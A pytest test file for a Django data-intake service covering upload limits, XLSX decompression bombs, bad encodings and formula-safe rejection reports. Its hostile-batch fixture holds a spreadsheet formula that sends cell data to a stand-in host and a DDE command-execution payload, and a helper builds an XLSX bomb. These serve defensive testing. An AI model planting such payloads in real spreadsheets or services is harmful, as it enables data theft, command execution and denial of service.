"""Bounded intake: what one call or file may cost, hostile values that reject their row only, and
rejection reports that show what was sent without running it (docs/security.md)."""

from __future__ import annotations

import csv
import io
import json
import zipfile
from pathlib import Path
from typing import Any

import openpyxl
import pytest
import time_machine
from django.db.models import Sum
from django.db.models.functions import Length

from xinyong.catalog.models import Domain, RecordKind
from xinyong.collection.models import Batch, RejectedRow, Rejection
from xinyong.collection.services import build_context, run_batch, start_file_import
from xinyong.collection.tests.test_file_import import rows, write_csv, write_jsonl, write_xlsx
from xinyong.collection.validation import IntakeContext, ValidRow, validate_row
from xinyong.conftest import ProviderPersona, penalty
from xinyong.core.errors import PlatformError
from xinyong.records.models import CreditRecord, RecordVersion

pytestmark = pytest.mark.django_db


@pytest.fixture(autouse=True)
def _today() -> Any:
    with time_machine.travel("2026-11-22 10:00 +0800", tick=False):
        yield


def numbered(n: int) -> list[dict[str, Any]]:
    return [penalty(行政处罚决定书文号=f"厦市监罚〔2026〕{i}号") for i in range(1, n + 1)]


def stored_chars() -> int:
    raw = RejectedRow.objects.aggregate(n=Sum(Length("raw")))["n"] or 0
    reasons = Rejection.objects.aggregate(n=Sum(Length("message")))["n"] or 0
    return int(raw) + int(reasons)


def refusal(call: Any) -> str:
    with pytest.raises(PlatformError) as caught:
        call()
    return caught.value.error.code


# ---------------------------------------------------------------------------------------------------
# One call, one file: bounded before any work


def test_it_refuses_a_call_whose_record_has_8000_unknown_keys_and_writes_nothing(
    client: Any, market_bureau: ProviderPersona
) -> None:
    record = penalty(**{f"未知字段{i}": "x" for i in range(8000)})

    response = market_bureau.post(client, [penalty(), record])

    assert response.status_code == 413
    assert response.json()["code"] == "intake.too_many_columns"
    assert response.json()["row"] == 2
    assert (Batch.objects.count(), RejectedRow.objects.count(), Rejection.objects.count()) == (0, 0, 0)


def test_it_stores_a_rejected_row_once_however_many_reasons_it_has(
    client: Any, market_bureau: ProviderPersona, settings: Any
) -> None:
    """GIVEN the column cap raised to let 8,000 unknown keys through (the 891 MB reproduction)
    WHEN they are submitted
    THEN the row is stored once with 20 reasons: storage stays within twice the request (was 8,000 times)."""
    settings.XINYONG_MAX_COLUMNS = 10_000
    body = [penalty(**{f"未知字段{i}": "某值" for i in range(8000)})]

    response = market_bureau.post(client, body)

    errors = response.json()["results"][0]["errors"]
    assert len(errors) == settings.XINYONG_MAX_ERRORS_PER_ROW
    assert errors[-1]["code"] == "row.too_many_errors"
    assert "另有 7981 个错误" in errors[-1]["message"]
    assert RejectedRow.objects.count() == 1
    assert Rejection.objects.count() == settings.XINYONG_MAX_ERRORS_PER_ROW
    assert stored_chars() < 2 * len(json.dumps(body, ensure_ascii=False))


def test_it_cuts_a_stored_value_to_the_limit_and_says_how_long_it_was(
    client: Any, market_bureau: ProviderPersona, settings: Any
) -> None:
    settings.XINYONG_MAX_STORED_VALUE_CHARS = 100

    market_bureau.post(client, [penalty(违法事实="长" * 100_000, 处罚决定日期="某日")])

    values = dict(json.loads(RejectedRow.objects.get().raw))
    assert values["违法事实"] == "长" * 100 + "…（已截断，原长 100000 字符）"
    message = Rejection.objects.get(code="field.too_long").message
    assert len(message) < 100


def test_it_refuses_a_file_over_the_upload_limit_before_reading_it(
    tmp_path: Path, market_bureau: ProviderPersona, settings: Any
) -> None:
    path = write_csv(tmp_path / "处罚.csv", rows(3))
    settings.XINYONG_MAX_UPLOAD_BYTES = path.stat().st_size - 1

    assert refusal(lambda: start_file_import(market_bureau.provider, path)) == "file.too_large"
    assert Batch.objects.count() == 0


def test_it_refuses_a_file_with_more_columns_than_the_limit(
    tmp_path: Path, market_bureau: ProviderPersona, settings: Any
) -> None:
    settings.XINYONG_MAX_COLUMNS = 10
    path = write_csv(tmp_path / "处罚.csv", rows(3))

    code = refusal(lambda: start_file_import(market_bureau.provider, path, kind_code="penalty"))

    assert code == "intake.too_many_columns"
    assert Batch.objects.count() == 0


def test_it_refuses_a_csv_that_names_a_column_twice(tmp_path: Path, market_bureau: ProviderPersona) -> None:
    path = tmp_path / "处罚.csv"
    header = ",".join(penalty())
    path.write_text(f"{header},违法事实\n", encoding="utf-8")

    assert refusal(lambda: start_file_import(market_bureau.provider, path)) == "field.duplicate"


def test_it_refuses_a_file_whose_two_headers_mean_one_field(
    tmp_path: Path, market_bureau: ProviderPersona
) -> None:
    records = [penalty(cf_sy="另一段事实")]
    path = write_csv(tmp_path / "处罚.csv", records)

    with pytest.raises(PlatformError) as caught:
        start_file_import(market_bureau.provider, path, kind_code="penalty")

    assert (caught.value.error.code, caught.value.field) == ("field.duplicate", "cf_sy")
    assert "违法事实、cf_sy" in caught.value.message
    assert Batch.objects.count() == 0


# ---------------------------------------------------------------------------------------------------
# XLSX bombs


def bomb(path: Path, padding: int) -> Path:
    """A real workbook whose sheet XML carries ``padding`` blanks between elements (legal XML):
    a few kilobytes on disk, megabytes once unpacked."""
    source = write_xlsx(path.with_name("plain.xlsx"), rows(2))
    with zipfile.ZipFile(source) as plain, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as out:
        for member in plain.infolist():
            data = plain.read(member)
            if member.filename == "xl/worksheets/sheet1.xml":
                data = data.replace(b"<sheetData>", b"<sheetData>" + b" " * padding)
            out.writestr(member.filename, data)
    return path


def test_it_refuses_an_xlsx_bomb_before_parsing_it(tmp_path: Path, market_bureau: ProviderPersona) -> None:
    path = bomb(tmp_path / "处罚.xlsx", 20 * 1024 * 1024)
    assert path.stat().st_size < 100_000

    with pytest.raises(PlatformError) as caught:
        start_file_import(market_bureau.provider, path, kind_code="penalty")

    assert caught.value.error.code == "file.xlsx_too_large"
    assert "xl/worksheets/sheet1.xml" in caught.value.message
    assert Batch.objects.count() == 0


def test_it_refuses_an_xlsx_that_unpacks_beyond_the_total_limit(
    tmp_path: Path, market_bureau: ProviderPersona, settings: Any
) -> None:
    path = write_xlsx(tmp_path / "处罚.xlsx", rows(2))
    settings.XINYONG_XLSX_MAX_UNPACKED_BYTES = 4096

    code = refusal(lambda: start_file_import(market_bureau.provider, path, kind_code="penalty"))

    assert code == "file.xlsx_too_large"


def test_it_imports_an_ordinary_xlsx_under_the_limits(tmp_path: Path, market_bureau: ProviderPersona) -> None:
    batch = run_batch(start_file_import(market_bureau.provider, write_xlsx(tmp_path / "处罚.xlsx", rows(3))))

    assert (batch.created_count, batch.rejected_count) == (3, 0)


# ---------------------------------------------------------------------------------------------------
# Values that reject their row, not the call or the file


def test_a_lone_surrogate_rejects_its_record_and_the_other_999_land(
    client: Any, market_bureau: ProviderPersona
) -> None:
    records = numbered(1000)
    records[499]["违法事实"] = "超标排放\ud800"

    response = market_bureau.post(client, records)

    assert response.status_code == 200
    assert (response.json()["batch"]["created"], response.json()["batch"]["rejected"]) == (999, 1)
    assert response.json()["results"][499]["errors"][0]["code"] == "field.invalid_text"
    assert CreditRecord.objects.count() == 999


def test_a_json_lines_file_with_a_surrogate_imports_its_other_lines(
    tmp_path: Path, market_bureau: ProviderPersona
) -> None:
    records = rows(3)
    records[1]["违法事实"] = "超标\ud800"
    path = tmp_path / "处罚.jsonl"
    path.write_text("".join(json.dumps(r) + "\n" for r in records), encoding="utf-8")

    batch = run_batch(start_file_import(market_bureau.provider, path, kind_code="penalty"))

    assert (batch.status, batch.created_count, batch.rejected_count) == ("done", 2, 1)
    assert Rejection.objects.get().code == "field.invalid_text"


def test_bad_bytes_after_the_encoding_sniff_reject_their_row_only(
    tmp_path: Path, market_bureau: ProviderPersona
) -> None:
    """GIVEN a UTF-8 CSV whose first 64 KiB decode, then a row with a GB18030 byte pair
    THEN that row is rejected and the rows after it are imported."""
    records = rows(300)
    records[-2]["违法事实"] = "GBK"
    path = write_csv(tmp_path / "处罚.csv", records, "utf-8")
    assert path.stat().st_size > 65536
    path.write_bytes(path.read_bytes().replace(b",GBK,", b",\xb3\xac\xb1\xea,"))

    batch = run_batch(start_file_import(market_bureau.provider, path))

    assert (batch.status, batch.created_count, batch.rejected_count) == ("done", 299, 1)
    rejection = Rejection.objects.get()
    assert (rejection.row_number, rejection.code, rejection.field) == (299, "field.invalid_text", "cf_sy")


def test_a_csv_field_over_the_parser_limit_rejects_its_row_only(
    tmp_path: Path, market_bureau: ProviderPersona
) -> None:
    records = rows(3)
    records[1]["违法事实"] = "长" * (csv.field_size_limit() + 1)

    batch = run_batch(start_file_import(market_bureau.provider, write_csv(tmp_path / "处罚.csv", records)))

    assert (batch.status, batch.created_count, batch.rejected_count) == ("done", 2, 1)
    assert (Rejection.objects.get().row_number, Rejection.objects.get().code) == (2, "row.invalid")


def test_a_json_lines_line_with_too_many_keys_rejects_that_line(
    tmp_path: Path, market_bureau: ProviderPersona, settings: Any
) -> None:
    settings.XINYONG_MAX_COLUMNS = 40
    records: list[Any] = rows(2)
    records.append(penalty(**{f"未知{i}": "x" for i in range(30)}))

    batch = run_batch(
        start_file_import(market_bureau.provider, write_jsonl(tmp_path / "处罚.jsonl", records))
    )

    assert (batch.created_count, batch.rejected_count) == (2, 1)
    assert json.loads(RejectedRow.objects.get().raw) == []


def test_a_json_number_is_accepted_in_an_amount_field(client: Any, market_bureau: ProviderPersona) -> None:
    response = market_bureau.post(client, [penalty(**{"罚款金额(万元)": 2.5})])

    assert response.json()["results"][0]["status"] == "created"
    assert RecordVersion.objects.get().data["cf_nr_fk"] == "2.5"


def test_numbers_from_a_spreadsheet_stay_accepted(tmp_path: Path, market_bureau: ProviderPersona) -> None:
    records = rows(1)
    records[0]["罚款金额(万元)"] = 3
    batch = run_batch(start_file_import(market_bureau.provider, write_xlsx(tmp_path / "处罚.xlsx", records)))

    assert (batch.created_count, batch.rejected_count) == (1, 0)


# ---------------------------------------------------------------------------------------------------
# Rejection reports: text stays text

FORMULA = '=HYPERLINK("http://evil.example/?q="&A1,"点此")'


@pytest.fixture
def hostile_batch(client: Any, market_bureau: ProviderPersona) -> int:
    records = [
        penalty(行政相对人名称=FORMULA, 处罚决定日期="某日"),
        penalty(违法事实="含\x01控制字符", 备注="@SUM(1+1)*cmd|' /C calc'!A0", 处罚决定日期="某日"),
    ]
    response = market_bureau.post(client, records)
    assert response.json()["batch"]["rejected"] == 2
    return int(response.json()["batch"]["id"])


def test_the_csv_rejection_report_writes_a_formula_as_text(
    client: Any, market_bureau: ProviderPersona, hostile_batch: int
) -> None:
    auth = {"Authorization": f"Bearer {market_bureau.key}"}
    response = client.get(f"/api/v1/batches/{hostile_batch}/rejections.csv", headers=auth)
    text = b"".join(response.streaming_content).decode("utf-8-sig")

    _, *lines = list(csv.reader(io.StringIO(text)))
    cells = [cell for line in lines for cell in line]
    assert "'" + FORMULA in cells
    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in cells
    assert not any(cell[:1] in "=+-@" for cell in cells if cell)
    assert text.splitlines()[0].startswith('"Excel 行号"'), "every cell is quoted"


def test_the_xlsx_rejection_report_writes_a_formula_as_text_and_survives_a_control_character(
    client: Any, market_bureau: ProviderPersona, hostile_batch: int
) -> None:
    auth = {"Authorization": f"Bearer {market_bureau.key}"}
    response = client.get(f"/api/v1/batches/{hostile_batch}/rejections.xlsx", headers=auth)

    assert response.status_code == 200
    sheet = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    formula = next(cell for cell in cells if cell.value == FORMULA)
    assert formula.data_type == "s"
    assert formula.quotePrefix
    assert any(cell.value == "含\u2401控制字符" for cell in cells)


@pytest.mark.parametrize(
    ("amount", "accepted"),
    [("100", True), ("100.00", True), ("100.01", False), ("0.01", True), ("0.001", False), ("0", True)],
)
def test_a_fields_own_max_and_places_take_precedence_over_the_rulebook_range(
    market_bureau: ProviderPersona, amount: str, accepted: bool
) -> None:
    ctx = build_context(market_bureau.provider, "penalty")
    kind = RecordKind.objects.get(pk=ctx.kind.pk)
    kind.schema = [dict(f, max=100, places=2) if f["code"] == "cf_nr_fk" else f for f in kind.schema]
    granted = list(Domain.objects.filter(id__in=ctx.domains.values()))
    narrow = IntakeContext.build(ctx.provider, kind, granted, ctx.today)

    result = validate_row(narrow, penalty(**{"罚款金额(万元)": amount}))

    assert isinstance(result, ValidRow) is accepted, result
